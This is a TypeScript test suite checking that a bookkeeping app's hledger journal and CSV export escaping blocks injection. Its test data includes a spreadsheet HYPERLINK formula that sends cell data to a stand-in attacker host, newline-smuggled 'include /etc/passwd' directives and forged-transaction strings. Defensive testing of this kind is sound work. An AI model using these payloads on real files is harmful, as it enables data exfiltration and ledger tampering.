// What staff or Shopify write, as it reaches the files: in the hledger journal it stays inside the
// field it was written for (hledger itself reads it back, for text made of every character that means
// something to it), and in CSV every cell reads back as written and none runs as a formula.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import {
  accountCodeProblem,
  journalAccount,
  journalAccountDeclaration,
  journalCommodityDeclaration,
  journalDescription,
  journalPosting,
  journalTagValue,
  journalTransaction,
} from '../../src/platform/documents/journal-text.ts';
import { csvField, csvNumber, csvRecord } from '../../src/platform/documents/csv.ts';
import { parseCsv } from '../../src/platform/documents/csv-parser.ts';
import { DEFAULT_CHART } from '../../src/modules/ledger/chart.ts';

const run = promisify(execFile);

const HOSTILE = [
  'INV-1\ninclude /etc/passwd',
  'ACME\r\n2026-01-01 * fake\r\n    Assets:Bank  1000.00 GBP\r\n    Income:Sales  -1000.00 GBP',
  'x\u2028include /etc/passwd\u2029y\u0085z',
  'Boots; source:fake, entry:1',
  'VAT, date:2019-01-01',
  'GB-[2019-01-01] VAT',
  'x [=2019-01-01]',
  '[2019-01-01=2019-02-02]',
  '(CODE) description',
  '[Assets:Bank]',
  '* ! status',
  'two  spaces  inside',
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  '-2+3',
  '+44 20 7946 0000',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''-twice",
  "'Tis the season",
  ' =spaced formula',
  'tab\there and a \u202eright-to-left override',
  'nul\u0000bell\u0007escape\u001b',
  'payee | note',
  'quote " inside, and a comma',
  'comment ; inside',
  '',
  '   ',
  'Crème brûlée £12.50 ✨',
];

/** Strings made of the characters that mean something to hledger or a spreadsheet. */
function randomTexts(count: number, seed: number): string[] {
  const parts = [
    ...[
      '\n',
      '\r',
      '\t',
      '\v',
      '\f',
      '\u0000',
      '\u2028',
      '\u2029',
      '\u0085',
      '\u202e',
      '\u00a0',
      '\u3000',
      '\ufeff',
      '\u2003',
    ],
    ...[';', ',', ':', '|', '(', ')', '[', ']', '*', '!', '=', '+', '-', '@', '"', "'", '#', '%', '~'],
    ...[' ', '  ', 'a', 'Z', '7', 'é', '✨', 'include ', 'date:', 'type:', 'account ', '2026-01-01 '],
  ];
  let state = seed;
  const next = (n: number) => {
    state = (state * 1103515245 + 12345) % 2 ** 31;
    return state % n;
  };
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + next(12) }, () => parts[next(parts.length)]).join(''),
  );
}

test('hledger reads every hostile text back as the field it was written for, and --strict accepts the journal', async () => {
  const texts = [...HOSTILE, ...randomTexts(300, 7)];
  const accountOf = (text: string) => `Expenses:${text}`;
  const lines = ['decimal-mark .\n', journalCommodityDeclaration('GBP')];
  lines.push(journalAccountDeclaration('Assets:Bank', [['type', 'A']]));
  for (const text of texts) lines.push(journalAccountDeclaration(accountOf(text), [['name', text]]));
  texts.forEach((text, index) => {
    lines.push(
      journalTransaction('2026-11-02', text, [
        ['source', `manual:${text}`],
        ['entry', String(index)],
      ]),
      journalPosting(accountOf(text), 100 + index, 'GBP', [['jurisdiction', text]]),
      journalPosting('Assets:Bank', -(100 + index), 'GBP'),
    );
  });
  // Nothing but the lines written: no text began a line of its own.
  const journal = lines.join('');
  assert.equal(journal.split('\n').length - 1, 3 + texts.length + texts.length * 3);
  assert.ok(!/[\r\u2028\u2029\u0085]/.test(journal), 'no line break of any kind inside a line');

  const dir = mkdtempSync(path.join(tmpdir(), 'sk-journal-'));
  try {
    const file = path.join(dir, 'hostile.journal');
    writeFileSync(file, journal);
    await run('hledger', ['-f', file, 'check', '--strict']);
    const printed = JSON.parse(
      (await run('hledger', ['-f', file, 'print', '-O', 'json'], { maxBuffer: 64 << 20 })).stdout,
    ) as {
      tdescription: string;
      tcode: string;
      tdate: string;
      ttags: [string, string][];
      tpostings: {
        paccount: string;
        pdate: string | null;
        ptype: string;
        pstatus: string;
        pamount: { aquantity: { decimalMantissa: number } }[];
        ptags: [string, string][];
      }[];
    }[];
    assert.equal(printed.length, texts.length);
    printed.forEach((transaction, index) => {
      const text = texts[index]!;
      const what = JSON.stringify(text);
      assert.equal(transaction.tdescription, journalDescription(text), what);
      assert.equal(transaction.tcode, '', what);
      assert.equal(transaction.tdate, '2026-11-02', what);
      assert.deepEqual(
        transaction.ttags,
        [
          ['source', journalTagValue(`manual:${text}`)],
          ['entry', String(index)],
        ],
        what,
      );
      assert.equal(transaction.tpostings.length, 2, what);
      const [expense, bank] = transaction.tpostings;
      assert.equal(expense!.paccount, journalAccount(accountOf(text)), what);
      assert.equal(expense!.ptype, 'RegularPosting', what);
      assert.equal(expense!.pstatus, 'Unmarked', what);
      assert.equal(expense!.pdate, null, `${what}: no date tag moved the posting`);
      assert.equal(expense!.pamount[0]!.aquantity.decimalMantissa, 100 + index, what);
      assert.deepEqual(
        expense!.ptags.filter(([name]) => name === 'jurisdiction'),
        [['jurisdiction', journalTagValue(text)]],
        what,
      );
      assert.equal(bank!.paccount, 'Assets:Bank');
    });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the journal keeps ordinary text as it was written, and shows what it had to change', () => {
  assert.equal(journalDescription('Royal Mail: parcels to salons'), 'Royal Mail: parcels to salons');
  assert.equal(journalDescription('INV-1\ninclude /etc/passwd'), 'INV-1 include /etc/passwd');
  assert.equal(journalDescription('Boots; receipt 42'), 'Boots； receipt 42');
  assert.equal(journalDescription('(42) Boots'), '（42) Boots');
  assert.equal(journalDescription('a\u2028b\u0000c'), 'a b\ufffdc');
  assert.equal(journalTagValue('GB VAT, date:2019-01-01'), 'GB VAT， date:2019-01-01');
  assert.equal(journalAccount('Expenses:Market  Stall '), 'Expenses:Market Stall');
  assert.equal(journalAccount('(Assets:Bank)'), '（Assets:Bank)');
  assert.equal(
    journalTransaction('2026-11-02', 'Shopify order #1001', [['source', 'order:1']]),
    '2026-11-02 * Shopify order #1001  ; source:order:1\n',
  );
  assert.equal(journalPosting('Income:Sales', -2499, 'GBP'), '    Income:Sales  -24.99 GBP\n');
  assert.throws(() => journalTransaction('2026-11-02\ninclude x', 'x'), /not a journal date/);
  assert.throws(() => journalTransaction('2026-11-02', 'x', [['a b', 'x']]), /not a journal tag name/);
});

test('a new account code must be an hledger account name as it is', () => {
  for (const { code } of DEFAULT_CHART) assert.equal(accountCodeProblem(code), null, code);
  assert.equal(accountCodeProblem('Expenses:Salon Samples'), null);
  assert.match(accountCodeProblem('Expenses:Market  Stall')!, /two spaces in a row/);
  assert.match(accountCodeProblem('Expenses:Stall ')!, /start or end with a space/);
  assert.match(accountCodeProblem('Expenses:Stall\ninclude /etc/passwd')!, /one line/);
  assert.match(accountCodeProblem('Expenses:Stall\u2028x')!, /one line/);
  assert.match(accountCodeProblem('(Expenses:Stall)')!, /start with/);
});

/** A cell as the person who wrote it meant it: without the apostrophe that keeps a formula as text. */
const unguarded = (cell: string) =>
  cell.startsWith("'") && /^'*(?:[\t\r]|\s*[=+\-@])/.test(cell.slice(1)) ? cell.slice(1) : cell;

test('CSV: every text cell reads back as written, none starts as a formula, numbers stay numbers', () => {
  const texts = [...HOSTILE, ...randomTexts(500, 11)];
  const file = texts.map((text, index) => `${csvRecord([String(index), text, csvNumber('-12.50')])}\r\n`);
  const rows = parseCsv(file.join(''));
  assert.equal(rows.length, texts.length);
  rows.forEach((row, index) => {
    const what = JSON.stringify(texts[index]);
    assert.equal(row.fields.length, 3, what);
    assert.equal(row.fields[0], String(index), what);
    assert.equal(unguarded(row.fields[1]!), texts[index], what);
    assert.ok(!/^[=+\-@\t\r]/.test(row.fields[1]!), `${what} starts as a formula: ${row.fields[1]}`);
    assert.ok(!/^\s*[=+\-@]/.test(row.fields[1]!), `${what} starts as a formula behind spaces`);
    assert.equal(row.fields[2], '-12.50', 'an amount the exporter wrote stays a number');
  });
  assert.equal(csvField('-2+3'), `"'-2+3"`);
  assert.equal(csvField('\r=1+1'), `"'\r=1+1"`);
  assert.equal(csvField('a,"b"'), `"a,""b"""`);
  assert.equal(csvField('Royal Mail'), 'Royal Mail');
  assert.equal(csvRecord([csvNumber(-3), csvNumber('=1+1'), null]), `-3,"'=1+1",`);
});
